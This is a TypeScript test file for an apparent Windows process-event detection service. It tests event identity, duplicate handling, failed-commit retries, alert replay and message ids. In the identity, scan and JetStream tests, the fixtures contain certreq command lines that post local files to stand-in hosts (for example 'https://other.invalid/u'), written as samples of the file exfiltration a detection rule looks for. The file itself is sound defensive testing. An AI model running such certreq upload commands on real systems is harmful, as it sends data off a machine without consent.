/**
 * Delivery semantics of `serve`: event identity by content (a different event that shares host, channel and
 * record id is a new event; an identical re-send is a duplicate) and alerts that follow commits (a failed
 * commit answers 503 and its retry raises the alert, exactly once).
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer } from '../../src/cli/startServer.js';
import { defaultConfig, type ServeConfig } from '../../src/service/config.js';
import { SqliteStore, type Store } from '../../src/store/index.js';
import { storedKey } from '../../src/service/ingest.js';
import { decodeDocument } from '../../src/formats/index.js';
import { eventKey, type WinEvent } from '../../src/model/event.js';
import { alertId } from '../../src/correlate/index.js';
import { encodeBatches, messageId } from '../../src/distribute/codec.js';
import { runCli, jsonLines } from '../helpers/cli.js';
import { AUTH, TOKEN, json } from '../server/support/http.js';
import { benign, ndjson, sysmonProcessCreate } from '../server/support/events.js';

const dirs: string[] = [];
function tmp(): string {
  const d = mkdtempSync(join(tmpdir(), 'pw-delivery-'));
  dirs.push(d);
  return d;
}
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

function config(dataDir = tmp()): ServeConfig {
  return { ...defaultConfig(), port: 0, dataDir, tokens: [{ name: 'analyst', token: TOKEN }] };
}

function decoded(doc: Record<string, unknown>): WinEvent {
  const r = decodeDocument(doc, { file: 'test' });
  assert.ok('system' in r, 'decodes');
  return r as WinEvent;
}

/** A store whose next `commit` calls fail (as a full disk or a lost database connection make them fail). */
type FailingStore = Store & { failCommits(n: number): void };
function failing(inner: Store): FailingStore {
  let failures = 0;
  return new Proxy(inner, {
    get(target, prop, receiver) {
      if (prop === 'failCommits') return (n: number) => (failures = n);
      if (prop === 'commit') {
        return async (...args: Parameters<Store['commit']>) => {
          if (failures > 0) {
            failures--;
            throw new Error('injected: database or disk is full');
          }
          return target.commit(...args);
        };
      }
      const v = Reflect.get(target, prop, receiver) as unknown;
      return typeof v === 'function' ? (v as (...a: unknown[]) => unknown).bind(target) : v;
    },
  }) as FailingStore;
}

async function alertsOf(url: string, host: string): Promise<{ total: number; items: { id: string; alert: { winlog: { record_id: number } } }[] }> {
  return (await json(await fetch(`${url}/api/alerts?host=${host}&limit=1000`, { headers: AUTH }))) as never;
}

test('identity: the same content is the same event whatever its origin or key order; any other content is another event', () => {
  const a = decoded(sysmonProcessCreate({ recordId: 42, host: 'ID01' }));
  const fromElsewhere = { ...a, origin: { file: 'http:/_bulk', line: 9, index: 3 } };
  const reordered = { ...a, data: Object.fromEntries(Object.entries(a.data).reverse()), system: Object.fromEntries(Object.entries(a.system).reverse()) } as WinEvent;
  const roundTripped = JSON.parse(JSON.stringify(a)) as WinEvent;
  for (const same of [fromElsewhere, reordered, roundTripped]) {
    assert.equal(storedKey(same), storedKey(a));
    assert.equal(alertId('certreq-download-upload', same), alertId('certreq-download-upload', a));
  }
  // Same host, channel and record id: a cleared log, a cloned host, or a record id sent ahead by an attacker.
  const otherCommand = decoded(sysmonProcessCreate({ recordId: 42, host: 'ID01', commandLine: 'certreq -Post -config https://x.invalid/ a b' }));
  const otherTime = decoded(sysmonProcessCreate({ recordId: 42, host: 'ID01', time: '2030-01-01T00:00:00.0000000Z' }));
  const keys = new Set([a, otherCommand, otherTime].map(storedKey));
  assert.equal(keys.size, 3, 'different content, different keys');
  assert.notEqual(alertId('certreq-download-upload', otherCommand), alertId('certreq-download-upload', a));
  // Every System field and every data field is part of the identity.
  const full = decoded(sysmonProcessCreate({ recordId: 42, host: 'ID01' }));
  full.system = { ...full.system, relatedActivityId: '{00000000-0000-0000-0000-000000000001}', activityId: '{00000000-0000-0000-0000-000000000002}' };
  const fields = [...Object.keys(full.system).map((k) => ['system', k] as const), ...Object.keys(full.data).map((k) => ['data', k] as const)];
  assert.ok(fields.length > 30, `fields: ${fields.length}`);
  for (const [part, k] of fields) {
    const changed = JSON.parse(JSON.stringify(full)) as WinEvent;
    const target = changed[part] as Record<string, unknown>;
    target[k] = typeof target[k] === 'number' ? (target[k] as number) + 1 : `${String(target[k])}x`;
    assert.notEqual(storedKey(changed), storedKey(full), `${part}.${k} changes the identity`);
  }
  // The readable prefix of the identity: host, channel, record id and creation time.
  assert.match(eventKey(a), /^id01\|microsoft-windows-sysmon\/operational\|42\|2024-05-01T/);
});

test('serve: a benign event sent first with a record id does not hide a later, different event with that id', async () => {
  const srv = await startServer(config(), { notice: () => {} });
  try {
    const post = (docs: unknown[]): Promise<Response> => fetch(`${srv.url}/ingest`, { method: 'POST', headers: AUTH, body: ndjson(docs) });
    const decoy = await json(await post([benign(900, 'SPOOF01')]));
    assert.deepEqual([decoy.stored, decoy.alerts], [1, 0]);
    const real = await json(await post([sysmonProcessCreate({ recordId: 900, host: 'SPOOF01' })]));
    assert.deepEqual([real.stored, real.duplicates, real.alerts], [1, 0, 1], 'stored and alerted, not a duplicate');
    const again = await json(await post([sysmonProcessCreate({ recordId: 900, host: 'SPOOF01' })]));
    assert.deepEqual([again.stored, again.duplicates, again.alerts], [0, 1, 0], 'an identical re-send stays a duplicate');
    assert.equal((await alertsOf(srv.url, 'SPOOF01')).total, 1);
  } finally {
    await srv.close();
  }
});

test('scan: two different events with the same host, channel and record id both alert; an identical copy does not', async () => {
  const dir = tmp();
  const file = join(dir, 'cleared.ndjson');
  const first = sysmonProcessCreate({ recordId: 5, host: 'SCAN01' });
  const afterClear = sysmonProcessCreate({ recordId: 5, host: 'SCAN01', time: '2024-06-01T08:00:00.0000000Z', commandLine: 'certreq -Post -config https://other.invalid/u C:\\a.txt C:\\b.txt' });
  writeFileSync(file, ndjson([first, afterClear, first]));
  const r = await runCli(['scan', file, '--format', 'jsonl', '--quiet', '--no-builtin', '--rules', 'src/rules/builtin/certreq-download-upload.yml']);
  const alerts = jsonLines(r.stdout);
  assert.equal(alerts.length, 2, r.stderr);
  assert.deepEqual(new Set(alerts.map((a) => a.process.command_line as string)).size, 2);
});

test('a failed commit answers 503 and leaves no trace: the retry raises the alert, stored exactly once, in one incident', async () => {
  const dataDir = tmp();
  const store = failing(new SqliteStore({ path: join(dataDir, 'procwatch.db') }));
  const srv = await startServer(config(dataDir), { store, notice: () => {} });
  try {
    const batch = ndjson([sysmonProcessCreate({ recordId: 1, host: 'FAIL01' }), benign(2, 'FAIL01'), sysmonProcessCreate({ recordId: 3, host: 'FAIL01', pid: 777 })]);
    const post = (): Promise<Response> => fetch(`${srv.url}/ingest`, { method: 'POST', headers: AUTH, body: batch });
    store.failCommits(2);
    for (let i = 0; i < 2; i++) {
      const r = await post();
      assert.equal(r.status, 503, 'not committed: retry');
      assert.match(String((await json(r)).error), /retry/);
    }
    assert.equal((await alertsOf(srv.url, 'FAIL01')).total, 0);
    const ok = await json(await post());
    assert.deepEqual([ok.stored, ok.alerts], [3, 2], 'the retry stores the events and raises both alerts');
    const again = await json(await post());
    assert.deepEqual([again.stored, again.duplicates, again.alerts], [0, 3, 0]);
    const alerts = await alertsOf(srv.url, 'FAIL01');
    assert.equal(alerts.total, 2);
    assert.deepEqual(alerts.items.map((a) => a.alert.winlog.record_id).sort(), [1, 3]);
    const incidents = (await json(await fetch(`${srv.url}/api/incidents?host=FAIL01`, { headers: AUTH }))) as { total: number; items: { alertCount?: number; alert_count?: number }[] };
    assert.equal(incidents.total, 1);
    const inc = incidents.items[0]!;
    assert.equal(inc.alertCount ?? inc.alert_count, 2, 'the failed attempts counted nothing');
  } finally {
    await srv.close();
  }
});

test('start-up replay stores the alerts of stored events whose alert is missing (what a lost retry left behind)', async () => {
  const dataDir = tmp();
  const store = new SqliteStore({ path: join(dataDir, 'procwatch.db') });
  const ev = decoded(sysmonProcessCreate({ recordId: 77, host: 'LOST01' }));
  await store.commit([{ key: storedKey(ev), time: ev.system.timeCreated, host: ev.system.computer, doc: JSON.stringify(ev) }], { alerts: [], actions: [] });
  await store.close();
  for (let run = 0; run < 2; run++) {
    const srv = await startServer(config(dataDir), { notice: () => {} });
    try {
      const alerts = await alertsOf(srv.url, 'LOST01');
      assert.equal(alerts.total, 1, `run ${run}: re-derived once`);
      assert.equal(alerts.items[0]!.alert.winlog.record_id, 77);
    } finally {
      await srv.close();
    }
  }
});

test('JetStream message ids: an identical re-sent batch gets the same id, a batch with a look-alike event another one', () => {
  const original = [decoded(sysmonProcessCreate({ recordId: 8, host: 'JS01' }))];
  const lookAlike = [decoded(sysmonProcessCreate({ recordId: 8, host: 'JS01', commandLine: 'certreq -Post -config https://y.invalid/ c d' }))];
  const id = (evs: WinEvent[]): string => messageId(encodeBatches(evs, 1 << 20)[0]!);
  assert.equal(id(original), id([decoded(sysmonProcessCreate({ recordId: 8, host: 'JS01' }))]));
  assert.notEqual(id(lookAlike), id(original));
});
